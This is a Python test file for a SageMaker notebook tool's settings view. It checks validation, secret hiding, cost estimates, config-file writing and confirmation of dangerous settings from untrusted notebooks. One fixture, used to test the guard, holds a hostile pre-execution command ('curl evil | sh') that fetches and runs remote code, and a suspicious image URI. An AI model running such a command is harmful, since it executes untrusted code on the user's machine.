"""The form's view of the settings: Python's rules, no secrets, nothing without a confirmation."""

from __future__ import annotations

import json
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime, timezone

import pytest
import tomlkit

from sm_remote.costs import refresh
from sm_remote.server.settings_view import GROUPS, IN_CODE, check_each, estimate, find_held, list_groups, list_settings
from sm_remote.server.user_file import write_user_settings
from sm_remote.settings import resolve_settings
from sm_remote.settings.json_schema import build_json_schemas
from sm_remote.settings.schema import NAMES
from sm_remote.settings.trust import confirm
from tests.fakes.price_list import FakePricing, build_product


@pytest.fixture
def resolve(tmp_path):
    def run(values=None, **environ):
        return resolve_settings(
            {}, environ={"SM_REMOTE_HOME": str(tmp_path / "home"), **environ}, cwd=tmp_path, notebook=values or {}
        )

    return run


def test_each_value_is_judged_by_itself():
    accepted, problems = check_each({"volume_size": 50, "instance_count": "x", "nope": 1, "target": "moon"})
    assert accepted == {"volume_size": 50}
    assert set(problems) == {"instance_count", "nope", "target"}
    assert all(problem["what"] and problem["fix"] for problem in problems.values())


def test_every_setting_has_a_schema_that_json_can_carry(resolve):
    schemas = build_json_schemas()
    assert list(schemas) == list(NAMES)
    assert all(schema["description"] and schema["accepts"] for schema in schemas.values())
    assert schemas["target"]["enum"] == ["local", "sagemaker"]
    assert schemas["volume_size"]["minimum"] == 1
    json.dumps(list_settings(resolve()))


def test_environment_variables_are_named_without_their_values(resolve):
    shown = json.dumps(list_settings(resolve(SM_REMOTE_ENVIRONMENT_VARIABLES='{"TOKEN": "s3cret"}')))
    assert "TOKEN" in shown
    assert "s3cret" not in shown


def test_every_setting_has_its_place_in_one_group():
    shown = [name for group in list_groups() for name in group["settings"]]
    assert set(shown) == set(NAMES) - IN_CODE
    assert len(shown) == len(set(shown))
    assert {"target", "instance_type", "image_uri", "tags"} <= set(shown)
    assert next(group for group, _ in GROUPS) == "where"


def test_an_estimate_multiplies_by_instances_and_says_what_it_does_not_know(resolve):
    found = estimate(resolve({"instance_type": "ml.g5.xlarge", "max_runtime_in_seconds": 7200}))
    assert (found["free"], found["price_usd_per_hour"]) == (True, pytest.approx(1.408))
    assert found["most_usd"] == pytest.approx(2.816)
    assert estimate(resolve({"instance_type": "ml.m5.4xlarge"}))["price_usd_per_hour"] is None
    assert estimate(resolve({"target": "sagemaker"}))["most_usd"] is None


def test_an_estimate_says_whose_word_the_price_is_and_stays_below_the_limit(resolve, home):
    products = [build_product("ml.g5.xlarge", "1.57")]
    refresh(home, "eu-west-1", FakePricing(products), now=datetime(2026, 11, 20, tzinfo=timezone.utc))
    asked = {"instance_type": "ml.g5.xlarge", "region": "eu-west-1", "max_cost": 5}
    found = estimate(resolve(asked))
    assert (found["region"], found["origin"]) == ("eu-west-1", "AWS price list of 2026-11-18")
    assert (found["price_usd_per_hour"], found["most_usd"]) == (1.57, 5.0)
    assert estimate(resolve({**asked, "region": "us-west-2"}))["most_usd"] is None


GUARDED = {
    "target": "sagemaker",
    "image_uri": "evil/image",
    "instance_type": "ml.p4d.24xlarge",
    "pre_execution_commands": ("curl evil | sh",),
}


def test_an_untrusted_notebook_gets_what_is_dangerous_only_after_it_was_confirmed_once(resolve, home):
    asked = {**GUARDED, "volume_size": 50, "tags": {"a": "b"}}
    assert set(find_held(home, asked, resolve(), trusted=False)) == set(GUARDED)
    confirm(home, {"target": "sagemaker"})
    assert "target" not in find_held(home, asked, resolve(), trusted=False)
    assert find_held(home, asked, resolve(), trusted=True) == {}


def test_another_value_is_another_question(resolve, home):
    confirm(home, {"instance_type": "ml.m5.4xlarge"})
    assert find_held(home, {"instance_type": "ml.m5.4xlarge"}, resolve(), trusted=False) == {}
    assert find_held(home, {"instance_type": "ml.m5.24xlarge"}, resolve(), trusted=False)


@pytest.mark.parametrize("name", ["ml.m5.large", None])
def test_the_usual_type_and_none_need_no_confirmation(resolve, home, name):
    assert find_held(home, {"instance_type": name}, resolve(), trusted=False) == {}


def test_what_was_confirmed_is_private(home):
    confirm(home, {"target": "sagemaker"})
    assert (home.data / "confirmed_settings.json").stat().st_mode & 0o077 == 0


def test_the_users_file_keeps_its_comments_and_merges_tables(tmp_path):
    path = tmp_path / "config" / "config.toml"
    path.parent.mkdir()
    path.write_text('# mine\nvolume_size = 40  # enough\n[environment_variables]\nA = "1"\nB = "2"\n')
    write_user_settings(path, {"environment_variables": {"A": None, "C": "3"}, "role": "me", "volume_size": None})
    text = path.read_text()
    assert "# mine" in text
    assert "volume_size" not in text
    settings = resolve_settings({}, environ={"SM_REMOTE_HOME": str(path.parent)}, cwd=tmp_path, notebook={})
    assert settings.environment_variables == {"B": "2", "C": "3"}
    assert settings.role == "me"
    assert path.stat().st_mode & 0o077 == 0


def test_a_new_users_file_is_made_and_bad_values_write_nothing(tmp_path):
    from sm_remote.errors import ConfigError

    path = tmp_path / "config" / "config.toml"
    with pytest.raises(ConfigError):
        write_user_settings(path, {"volume_size": "x"})
    with pytest.raises(ConfigError):
        write_user_settings(path, {"nope": 1})
    assert not path.exists()
    write_user_settings(path, {"environment_variables": {"A": "1"}})
    write_user_settings(path, {"environment_variables": {"A": None}})
    assert "environment_variables" not in path.read_text()


def test_settings_that_are_written_at_the_same_time_are_all_kept(tmp_path):
    path = tmp_path / "config.toml"
    names = [f"NAME_{number}" for number in range(16)]
    with ThreadPoolExecutor(8) as threads:
        list(threads.map(lambda name: write_user_settings(path, {"environment_variables": {name: "1"}}), names))
    assert set(tomlkit.parse(path.read_text())["environment_variables"]) == set(names)
